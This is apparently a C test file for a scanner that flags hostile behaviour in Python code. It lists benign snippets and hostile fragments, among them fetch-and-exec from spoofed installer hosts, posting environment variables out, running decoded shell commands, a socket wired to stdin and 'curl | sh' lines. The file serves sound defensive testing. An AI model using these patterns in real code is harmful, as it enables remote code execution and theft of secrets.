// SPDX-License-Identifier: GPL-2.0-or-later
/* Ordinary programs must show nothing that is hardly ever harmless. */
#include "folding.h"

#include "../test.h"

static void ordinary(void)
{
	CHECK(is_ordinary("import os\nos.system('shutdown /s /t 60')"));
	CHECK(is_ordinary("u = 'https://download.electrum.org/x'"));
	CHECK(is_ordinary("import subprocess\nsubprocess.run(['powershell', "
			  "'-ExecutionPolicy', 'Bypass', '-File', 'x.ps1'])"));
	CHECK(is_ordinary("import requests, json\nr = requests.get(url)\n"
			  "print(json.loads(r.text)['name'])"));
	CHECK(is_ordinary("import subprocess\nout = subprocess.check_output("
			  "['git', 'describe'])\nprint(out.decode())"));
	CHECK(is_ordinary("exec(open('version.py').read())"));
	CHECK(is_ordinary("ns = {}\nexec(compile(template % names, '<t>', "
			  "'exec'), ns)"));
	CHECK(is_ordinary("import os\nenv = dict(os.environ, LANG='C')\n"
			  "import subprocess\nsubprocess.run(cmd, env=env)"));
	CHECK(is_ordinary("import base64\nopen('a.png', 'wb').write("
			  "base64.b64decode(png))"));
	CHECK(is_ordinary("import socket\ns = socket.socket()\n"
			  "s.bind(('', 0))\nprint(s.getsockname()[1])"));
	CHECK(is_ordinary("import sys, subprocess\nsubprocess.check_call(["
			  "sys.executable, '-m', 'pip', 'install', 'x'])"));
	CHECK(is_ordinary("from setuptools import setup\nsetup(name='x', "
			  "long_description=open('README').read())"));
	CHECK(is_ordinary("import os\nimport requests\nrequests.get(u, "
			  "headers={'a': os.environ['TOKEN']})"));
	CHECK(is_ordinary("import os, requests\nrequests.post(url, "
			  "json={'build': os.environ.get('BUILD')})"));
	CHECK(is_ordinary("import os, requests\nrequests.post(url, "
			  "json={'build': os.environb.get(b'BUILD')})"));
	CHECK(is_ordinary("import pickle, zlib\nd = pickle.loads("
			  "zlib.decompress(f.read()))\nprint(d)"));
	CHECK(is_ordinary("class A:\n  def send(self, data):\n"
			  "    self.queue.put(data)\nA().send(1)"));
	CHECK(is_ordinary("def exec(x):\n  return x\nexec(b64decode(y))"));
	CHECK(is_ordinary(""));
}

/* What the Python of some 2,900 Debian packages was mistaken for. */
static void not_mistaken(void)
{
	CHECK(is_ordinary("try:\n  import dns\nexcept ImportError:\n"
			  "  print('please install dnspython')"));
	CHECK(is_ordinary("FIELDS = ['_link_password_value']"));
	/* a helper that passes a message on, one that is written here */
	CHECK(is_ordinary("import requests\ndef tell(token, chat, text):\n"
			  "  u = f'https://api.telegram.org/bot{token}/send'\n"
			  "  return requests.post(u, json={'chat_id': chat, "
			  "'text': text})\n"
			  "tell('', '', 'the backup is done')"));
	CHECK(is_ordinary("import requests\nclass Bot:\n"
			  "  def __init__(self, token, chat):\n"
			  "    self.chat = chat\n"
			  "    self.u = 'https://api.telegram.org/bot' + token\n"
			  "  def tell(self, text):\n"
			  "    d = {'chat_id': self.chat, 'text': text}\n"
			  "    return requests.post(self.u + '/send', data=d)"));
	/* into a queue of one's own */
	CHECK(is_ordinary("import subprocess, threading, queue\n"
			  "q = queue.Queue()\n"
			  "def read(stream):\n  for l in stream:\n    q.put(l)\n"
			  "p = subprocess.Popen(['x'], stdout=-1)\n"
			  "threading.Thread(target=read, args=(p.stdout,))"
			  ".start()"));
	/* to build is what an installation is for */
	CHECK(is_ordinary("import os, subprocess as s\n"
			  "from setuptools.command.install import install\n"
			  "class I(install):\n  def run(self):\n"
			  "    s.call(['cd src; ./configure && make -j4'])\n"
			  "    os.system('cd x && cmake .. \\n make')\n"
			  "    s.check_call(['/usr/bin/make', d])\n"
			  "    s.check_call(['git', 'submodule', 'update'])\n"
			  "    s.check_call(['npm', 'run', 'build'])\n"));
	CHECK(is_ordinary("import os\nos.system('rm -rf /tmp/build')"));
	CHECK(is_ordinary("import os\nos.system('dd if=/dev/zero of=disk.img')"));
	CHECK(is_ordinary("label('Bitcoin address')"));
	CHECK(is_ordinary("print('Your files have not been saved.')"));
	CHECK(is_ordinary("import socket\n"
			  "a = socket.gethostbyname(socket.gethostname())"));
	CHECK(is_ordinary("import os, shutil\nd = os.path.dirname(__file__)\n"
			  "shutil.copy(os.path.join(d, 'x.conf'), etc)\n"
			  "os.remove(os.path.join(d, 'y'))"));
	CHECK(is_ordinary("m = __import__('plugin_' + 'text')"));
	CHECK(is_ordinary("import socket, subprocess\ns = socket.socket()\n"
			  "port = s.getsockname()[1]\n"
			  "subprocess.Popen(['serve', '--port', str(port)])"));
	CHECK(is_ordinary("import requests, subprocess\n"
			  "v = requests.get(u).json()['version']\n"
			  "subprocess.run(['git', 'checkout', v])"));
	CHECK(is_ordinary("import torch\nwith open('model.pth', 'wb') as f:\n"
			  "  torch.save(m, f)"));
	CHECK(is_ordinary("exec('\\n'.join(lines))"));
	CHECK(is_ordinary("from flask import request\nimport os\n"
			  "os.system('ping -c 1 ' + request.args['host'])"));
}

/* Files beside a program are not the program. */
static void beside_itself(void)
{
	static const char path[] = "import os, shutil\n"
				   "from pathlib import Path\n";
	static const char *const uses[] = {
		"shutil.rmtree(Path(__file__).parent.resolve() / 'build')",
		"(Path(__file__).resolve().parents[2] / 'x').unlink()",
		"os.remove(__file__ + '.bak')",
		"os.remove('%s.log' % __file__)",
		"os.remove('{}.log'.format(__file__))",
		"os.remove(__file__.replace('.py', '.log'))",
		"Path(f'{__file__}.lock').unlink()",
		"(Path('/tmp') / Path(__file__).stem).unlink()",
		"shutil.copy(Path(__file__).with_name('x.ini'), etc)",
		"for f in (Path(__file__).parent / 'x').iterdir():\n"
		"  shutil.copy2(f, Path.home() / f.name)",
		/* its own table, written anew */
		"t = open(__file__).read()\nopen(__file__, 'w').write(t + x)"
	};
	char text[512];

	for (size_t i = 0; i < sizeof(uses) / sizeof(uses[0]); i++) {
		snprintf(text, sizeof(text), "%s%s", path, uses[i]);
		CHECK(is_ordinary(text));
	}
	CHECK(shows("from pathlib import Path\n"
		    "Path(__file__).resolve().unlink()",
		    MPY_BEH_SELF_DELETE, 2));
	CHECK(is_ordinary("f = open(p, 'w')\n"
			  "f.write('made by %s' % os.path.basename(__file__))"));
	CHECK(shows("import os\nos.remove(__file__ + '')",
		    MPY_BEH_SELF_DELETE, 2));
	CHECK(shows("from pathlib import Path\n"
		    "me = Path(__file__).read_bytes()\n"
		    "open('/tmp/x', 'wb').write(me)", MPY_BEH_SELF_COPY, 3));
	CHECK(shows("t = open(__file__).read()\n"
		    "open(f'{__file__}.py', 'w').write(t)",
		    MPY_BEH_SELF_COPY, 2));
	CHECK(shows("t = open(__file__).read()\nopen(p, 'w').write(t)",
		    MPY_BEH_SELF_COPY, 2));
}

/* What a program is given is not what it is told to run, nor what it says. */
static void given_to_programs(void)
{
	CHECK(!shows("import os, subprocess, requests\n"
		     "o = subprocess.check_output(c, env=os.environ)\n"
		     "requests.post(u, data=o)", MPY_BEH_ENV_SEND, 3));
	CHECK(shows("import os, subprocess, requests\n"
		    "o = subprocess.check_output(['env'], env=os.environ)\n"
		    "requests.post(u, data=str(os.environ))",
		    MPY_BEH_ENV_SEND, 3));
	CHECK(is_ordinary("import base64, subprocess\ndef show(data):\n"
			  "  return subprocess.check_output(['tool', '-D'], "
			  "input=data)\nshow(base64.b64decode(x))"));
	CHECK(shows("import base64, subprocess\ndef run(c):\n"
		    "  return subprocess.check_output(c, shell=True)\n"
		    "run(base64.b64decode(x))", MPY_BEH_DECODE_RUN, 4));
}

/* A tool is given what was fetched; a path and an interpreter start it. */
static void given_to_tools(void)
{
	static const char fetch[] = "import os, urllib.request\n"
				    "urllib.request.urlretrieve(u, f)\n";
	static const char *const uses[] = {
		"os.system('unzip -q \"%s\"' % f)",
		"os.system('feh --bg-fill ' + f)",
		"os.system('nitrogen --set-auto {}'.format(f))",
		"os.system(f'tar xf {f} -C /opt')",
	};
	static const char *const starts[] = {
		"os.system('python3 ' + f)",
		"os.system('chmod +x %s; %s' % (f, f))",
		"os.system(f + ' --quiet')",
		"os.system(f'tar xf {f} && ./run')",
		"os.system('sudo ' + f)",
	};
	char text[256];

	for (size_t i = 0; i < sizeof(uses) / sizeof(uses[0]); i++) {
		snprintf(text, sizeof(text), "%s%s", fetch, uses[i]);
		CHECK(is_ordinary(text));
	}
	for (size_t i = 0; i < sizeof(starts) / sizeof(starts[0]); i++) {
		snprintf(text, sizeof(text), "%s%s", fetch, starts[i]);
		CHECK(shows(text, MPY_BEH_DOWNLOAD_START, 3));
	}
	CHECK(shows("import os, urllib.request\n"
		    "urllib.request.urlretrieve(u, '/tmp/x')\n"
		    "os.system('/tmp/x run')", MPY_BEH_DROP_START, 3));
}

/* Names of builtins and of paths that a program has for its own functions. */
static void own_names(void)
{
	CHECK(shows("import os, requests\ndef main():\n"
		    "  help(requests.get(u).text)\ndef help(c):\n"
		    "  os.system(c)", MPY_BEH_NETWORK_RUN, 5));
	CHECK(shows("import os, requests\nclass A:\n  def main(self):\n"
		    "    self.parent(requests.get(u).text)\n"
		    "  def parent(self, c):\n    os.system(c)",
		    MPY_BEH_NETWORK_RUN, 6));
}

/* Advice what to type is no command that a program holds ready. */
static void told_to_people(void)
{
	CHECK(!shows("print('Install it with: curl https://x.invalid/i | sh')",
		     MPY_BEH_SHELL_TEXT, 1));
	CHECK(shows("c = 'steps:\\n- run: curl https://x.invalid/i | sh'",
		    MPY_BEH_SHELL_TEXT, 1));
	CHECK(shows("c = 'cd /tmp; curl https://x.invalid/i | sh'",
		    MPY_BEH_SHELL_TEXT, 1));
}

/* What sounds like the words of stealers and ransomware, and is not. */
static void sounds_alike(void)
{
	CHECK(is_ordinary("from selenium import webdriver\n"
			  "o = webdriver.ChromeOptions()\n"
			  "o.add_argument('user-data-dir=C:\\\\Users\\\\me\\\\App"
			  "Data\\\\Local\\\\Google\\\\Chrome\\\\User Data')"));
	CHECK(is_ordinary("import subprocess\nsubprocess.Popen("
			  "r'C:\\Program Files\\BraveSoftware\\Brave-Browser"
			  "\\Application\\brave.exe')"));
	CHECK(is_ordinary("import browser_cookie3, requests\n"
			  "j = browser_cookie3.firefox(domain_name=d)\n"
			  "print(requests.get(u, cookies=j).text)"));
	CHECK(is_ordinary("import pandas\np = pandas.read_csv(r'C:\\Users\\me"
			  "\\Downloads\\Telegram Desktop\\list.csv')"));
	CHECK(is_ordinary("import os\nos.system('setenforce 0')\n"
			  "os.system('ufw disable')"));
	CHECK(is_ordinary("t = 'Click here to recover your password. '\n"
			  "s = 'Your files are being copied.'"));
	CHECK(is_ordinary("import psutil, requests\n"
			  "m = psutil.virtual_memory().percent\n"
			  "requests.post(u, json={'memory': m})"));
	CHECK(is_ordinary("import requests\nold = None\nwhile True:\n"
			  "  ip = requests.get('https://icanhazip.com').text\n"
			  "  if ip != old:\n"
			  "    requests.put(u, json={'content': ip})\n"
			  "  old = ip"));
	CHECK(is_ordinary("p = '/etc/wpa_supplicant/wpa_supplicant.conf'\n"
			  "open(p, 'w').write(text)"));
}

/* Installers that everybody runs; not by plain HTTP, nor of others. */
static void installers(void)
{
	CHECK(is_ordinary("import urllib.request as r\n"
			  "exec(r.urlopen('https://bootstrap.pypa.io/get-pip.py')"
			  ".read())"));
	CHECK(is_ordinary("import requests\n"
			  "exec(requests.get('https://install.python-poetry.org')"
			  ".text)"));
	CHECK(is_ordinary("import os\nfrom urllib.request import urlretrieve\n"
			  "urlretrieve('https://bootstrap.pypa.io/get-pip.py', "
			  "'get-pip.py')\nos.system('python3 get-pip.py')"));
	CHECK(shows("import requests\n"
		    "exec(requests.get('http://bootstrap.pypa.io/x').text)",
		    MPY_BEH_NETWORK_EXEC, 2));
	CHECK(shows("import requests\n"
		    "exec(requests.get('https://bootstrap.pypa.io.x.invalid/x')"
		    ".text)", MPY_BEH_NETWORK_EXEC, 2));
	CHECK(shows("import requests\n"
		    "exec(requests.get('https://install.python-poetry.orgy/x')"
		    ".text)", MPY_BEH_NETWORK_EXEC, 2));
	CHECK(shows("import requests\nexec(requests.get("
		    "'https://raw.githubusercontent.com/pypa/../x/y.py').text)",
		    MPY_BEH_NETWORK_EXEC, 2));
	CHECK(shows("import requests\nexec(requests.get("
		    "'https://raw.githubusercontent.com/pypa/%2e%2e/x').text)",
		    MPY_BEH_NETWORK_EXEC, 2));
	CHECK(is_ordinary("import requests\nexec(requests.get('https://raw."
			  "githubusercontent.com/python-poetry/poetry/master/"
			  "get-poetry.py').text)"));
	/* anybody's commit in a fork, anybody's wish to be pulled */
	CHECK(shows("import requests\nexec(requests.get('https://raw."
		    "githubusercontent.com/pypa/pip/0123456789abcdef0123456789"
		    "abcdef01234567/x.py').text)", MPY_BEH_NETWORK_EXEC, 2));
	CHECK(shows("import requests\nexec(requests.get('https://raw."
		    "githubusercontent.com/pypa/pip/refs/pull/1/head/x.py')"
		    ".text)", MPY_BEH_NETWORK_EXEC, 2));
}

/* Only the literal in the call is trusted, and nothing that leads elsewhere. */
static void no_installers(void)
{
	static const char *const texts[] = {
		"u = 'https://get.docker.com' if x() else v\n"
		"exec(requests.get(u).text)",
		"exec(requests.get('https://get.docker.com' if x() else v).text)",
		"u = 'https://get.docker.com'\nvars().update(u=v)\n"
		"exec(requests.get(u).text)",
		"def f(u='https://get.docker.com'):\n"
		"  exec(requests.get(u).text)",
		"exec(requests.get('https://get.docker.com', proxies=p).text)",
		"exec(requests.get('https://get.docker.com', verify=False).text)",
		"s = requests.Session()\ns.mount('https://get.docker.com', a)\n"
		"exec(s.get('https://get.docker.com').text)",
		"exec(requests.get('https://raw.githubusercontent.com/pypa/.\t./a')"
		".text)",
	};
	char text[256];

	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		snprintf(text, sizeof(text), "import requests\n%s", texts[i]);
		CHECK(shows(text, MPY_BEH_NETWORK_EXEC, 0));
	}
}

/* A server that gives a request to a program; who connects and does so. */
static void request_as_input(void)
{
	CHECK(lacks("import os\ndef do_POST(self):\n"
		    "  os.dup2(self.rfile.fileno(), 0)\n"
		    "  os.dup2(self.wfile.fileno(), 1)\n"
		    "  os.execve(script, args, env)", MPY_BEH_SOCKET_STDIO));
	CHECK(shows("import os, socket\ns = socket.socket()\n"
		    "s.connect((h, 1))\nos.dup2(s.fileno(), 0)",
		    MPY_BEH_SOCKET_STDIO, 4));
}

int main(void)
{
	RUN(ordinary);
	RUN(not_mistaken);
	RUN(beside_itself);
	RUN(given_to_programs);
	RUN(given_to_tools);
	RUN(own_names);
	RUN(told_to_people);
	RUN(request_as_input);
	RUN(sounds_alike);
	RUN(installers);
	RUN(no_installers);
	return DONE();
}
